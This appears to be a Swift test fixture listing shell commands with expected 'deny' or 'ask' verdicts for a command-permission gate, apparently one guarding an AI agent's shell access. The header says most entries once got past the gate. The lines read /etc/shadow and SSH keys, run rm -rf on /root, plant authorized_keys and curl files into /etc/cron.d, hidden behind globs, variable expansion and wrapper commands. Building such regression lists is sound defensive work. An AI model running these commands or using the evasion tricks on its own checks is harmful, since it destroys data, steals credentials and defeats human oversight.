/// What was found in hostile reviews of the gate, and what is near it: most of these lines were passed once. `verdict => command`,
/// in the mode `bypass`: denied by the floor, or at least asked about. `⏎` is a newline.
enum Findings {
  /// Names, values, globs, wrappers.
  static let floor = """
    ask => cat /etc/sha$!dow
    ask => cat /etc/sha${!}dow
    deny => rm -rf /ro$!ot
    deny => x=~/.ssh/authorized_keys; echo k > $x
    deny => x=~; rm -rf $x
    deny => x=~root/.ssh/id_rsa; cat $x
    deny => for f in /etc/{shadow,x}; do cat "$f"; done
    deny => for f in /etc/shado?; do cat "$f"; done
    deny => for d in ~ /x; do rm -rf "$d"; done
    ask => declare x={a,/etc/shadow}; cat $x
    ask => declare -l x=/ETC/SHADOW; cat $x
    deny => cat ~/.s*/id_ed25519
    deny => tee ~/.s*/authorized_keys
    deny => cat /home/*/.s*/id_ed25519
    deny => cat ~/.cmdo?/identity.key
    deny => cat /proc/2*/enviro?
    deny => rm -rf /roo?
    deny => rm -rf /et[c]
    deny => rm -rf /et[[:alpha:]]
    deny => rm -rf /ro*/*
    deny => bash -c -o errexit 'rm -rf /'
    deny => bash -co errexit 'cat /etc/shadow'
    deny => nice --adj 5 rm -rf /root
    deny => timeout --sig KILL 5 rm -rf /root
    deny => setpriv --rgid 0 rm -rf /root
    deny => env --split='rm -rf /root'
    deny => jobs -x rm -rf /root
    deny => xargs --replace rm -rf /root
    deny => nsenter -t 1 -w rm -rf /root
    deny => ionice -t rm -rf /root
    deny => su root -c 'rm -rf /root'
    deny => curl -sLo /etc/cron.d/x http://h
    deny => curl -sLo .env http://h
    deny => wget -qO /etc/cron.d/x http://h
    deny => cp x --target=/etc/cron.d
    deny => cp x --target /etc/cron.d
    deny => sort --o=/etc/cron.d/x f
    deny => tar xCf /etc a.tar
    deny => find -L /root -delete
    deny => cd /usr/src; find -- / -delete
    deny => find -- /root -delete
    deny => find -D x /root -delete
    deny => ln -s etc/shadow /l9; cat /l9
    ask => ln -s /var l9; cat l9/../etc/shadow
    deny => y='a /etc/shadow'; x="$y"; cat $x
    deny => cat /etc/sha${x}dow; x=zzz
    deny => (x=tmp/foo); rm -rf /$x
    deny => false && x=tmp/foo; rm -rf /$x
    deny => readonly x⏎x=tmp/ok⏎rm -rf /$x
    ask => _=tmp; true /etc; rm -rf $_
    ask => false && HOME=/tmp; cat $HOME/.ssh/id_rsa
    ask => CDPATH=/; cd etc; cat shadow
    ask => OLDPWD=/etc; cd -; cat shadow
    ask => shopt -s dotglob; cat ~/*/id_rsa
    ask => GLOBIGNORE=x; cat ~/*/id_rsa
    ask => awk 'BEGIN{ARGV[1]="/etc/sha" "dow";ARGC=2}1'
    ask => cp -r /roo? /tmp/x
    ask => tar cf - /roo?
    ask => grep -r x /et?
    deny => dd of=~/.env if=a
    deny => dd if=~/.ssh/id_rsa
    deny => cat /etc/[[:lower:]]hadow
    deny => cat /etc/[!a]hadow
    deny => cat /etc/[r-t]hadow
    deny => cat /etc/sh\\adow
    deny => x='/etc/sh\\adow*'; cat $x
    deny => cat /e*c/shadow
    deny => cat /./etc/shado?
    deny => cat //etc//shado?
    deny => cat /tmp/../etc/shado?
    deny => cd /etc; cat shado?
    deny => cd /; cat e??/shado?
    deny => cat < /etc/shado?
    deny => echo x > ~/.ss?/authorized_keys
    deny => x=/etc/shado?; cat $x
    deny => x=/etc/shado?; cat "$x"; y=$x; cat $y
    deny => for f in "/etc/shadow x"; do cat $f; done
    deny => for f in a; do x=/etc/shadow; done; cat $x
    deny => x=/etc; y=shadow; for f in $x/$y; do cat "$f"; done
    ask => x="a /etc/shadow"; for f in $x; do cat "$f"; done
    ask => x="a /etc/shadow"; y="$x"; for f in $y; do cat "$f"; done
    ask => x='/etc/{shadow,b}'; eval cat $x
    deny => x=~/.ssh; y=$x/id_rsa; cat $y
    ask => x=(/etc/shadow); cat $x
    ask => x[0]=/etc/shadow; cat $x
    ask => x=a; x+=/etc/shadow; cat ${x#a}
    ask => export x=~/.ssh/id_rsa; cat "$x"
    deny => readonly x=/etc/shadow; cat $x
    deny => builtin export x=~/.ssh/id_rsa; cat "$x"
    deny => y='/etc/shadow foo'; builtin declare x=$y; cat "$x"
    ask => y='/etc/shadow foo'; \\declare x=$y; cat "$x"
    ask => declare -c x=/etc/shadow; cat $x
    ask => declare -u x; x=a; cat $x
    deny => local x=/etc/shadow; cat $x
    deny => if true; then x=etc/shadow; fi; cat /$x
    deny => x=; cat /etc/sha${x}dow
    deny => while false; do x=zz; done; cat /etc/sha${x}dow
    deny => case a in b) x=zz;; esac; cat /etc/sha${x}dow
    deny => x=zz | true; cat /etc/sha${x}dow
    deny => x=zz & cat /etc/sha${x}dow
    deny => { x=zz; } < /nonexist; cat /etc/sha${x}dow
    deny => false && x=zz || true; cat /etc/sha${x}dow
    deny => true || x=zz; cat /etc/sha${x}dow
    deny => true || x=zz && cat /etc/sha${x}dow
    deny => x=zz true; cat /etc/sha${x}dow
    deny => if false; then x=zz; else true; fi; cat /etc/sha${x}dow
    ask => for x in; do :; done; cat /etc/sha${x}dow
    deny => for x in $nothing; do :; done; cat /etc/sha${x}dow
    deny => echo $(x=zz); cat /etc/sha${x}dow
    deny => f() { x=zz; }; cat /etc/sha${x}dow
    ask => x=zz; unset x; cat /etc/sha${x}dow
    ask => x=zz; y=x; unset $y; cat /etc/sha${x}dow
    deny => x=zz; x=; cat /etc/sha${x}dow
    ask => cat /etc/sha`true`dow
    ask => cat /etc/sha$*dow
    ask => cat /etc/sha$1dow
    ask => cat /etc/sha$@dow
    ask => cat /etc/sha${x-}dow
    ask => cat /etc/sha$-dow
    ask => cat /etc/sha"$!"dow
    deny => rm -rf /$nothing
    deny => rm -rf "/$!"
    deny => rm -rf /${x:-}
    ask => HOSTNAME=/etc/shadow; cat $HOSTNAME; USER=x; cat /etc/$USER
    ask => COLUMNS=/etc/shadow; cat $COLUMNS
    deny => bash -c -- 'rm -rf /root'
    deny => bash -c - 'rm -rf /root'
    ask => bash -O extglob -c 'rm -rf /root'
    ask => bash -cO extglob 'rm -rf /root'
    ask => bash --rcfile x -ic 'rm -rf /root'
    deny => bash +o errexit -c 'rm -rf /root'
    deny => dash -co errexit 'rm -rf /root'
    deny => zsh -c 'rm -rf /root'
    ask => fish -c 'rm -rf /root'
    deny => env -S 'rm -rf /root'
    deny => env -vS 'rm -rf /root'
    deny => env --split 'rm -rf /root'
    ask => env -C /etc cat shadow
    ask => env --chdir /etc cat shadow
    ask => env --ch=/etc cat shadow
    ask => sudo --chdir=/etc cat shadow
    ask => sudo -D /etc cat shadow
    deny => sudo --us root rm -rf /root
    deny => nice -n5 rm -rf /root
    deny => nice --adjustment 5 rm -rf /root
    deny => stdbuf --out L rm -rf /root
    deny => timeout -k1 -s9 5 rm -rf /root
    deny => timeout --kill 1 5 rm -rf /root
    deny => setpriv --reuid=0 --clear-groups rm -rf /root
    deny => flock /tmp/l --command 'rm -rf /root'
    deny => flock --comm 'rm -rf /root' /tmp/l
    ask => script -q /dev/null
    deny => su -c 'rm -rf /root' root
    deny => runuser root -c 'rm -rf /root'
    deny => runuser -u root rm -rf /root
    deny => su --comm='rm -rf /root'
    deny => watch --int 1 rm -rf /root
    deny => taskset --cpu-list 0 rm -rf /root
    ask => systemd-run --working-dir /etc cat shadow
    ask => systemd-run --working-directory=/etc --pipe cat shadow
    deny => xargs --max-a 1 rm -rf /root
    deny => xargs -i rm -rf /root
    deny => xargs -l rm -rf /root
    deny => xargs -e rm -rf /root
    ask => find / -maxdepth 1 -name roo? -exec rm -rf {} +
    ask => find /etc -name shadow -exec cat {} +
    ask => find /etc -name shadow -print0 | xargs -0 cat
    ask => find -D exec /etc -name shadow -exec cat {} +
    deny => busybox rm -rf /root
    deny => busybox sh -c 'rm -rf /root'
    deny => time -p rm -rf /root
    deny => command time -o x rm -rf /root
    deny => exec -la x rm -rf /root
    deny => coproc rm -rf /root
    deny => jobs -lx rm -rf /root
    deny => curl -o/etc/cron.d/x http://h
    deny => curl --output=/etc/cron.d/x http://h
    deny => curl --out /etc/cron.d/x http://h
    deny => curl -fsSLo.env http://h
    """.split(separator: "\n").map(String.init)
}
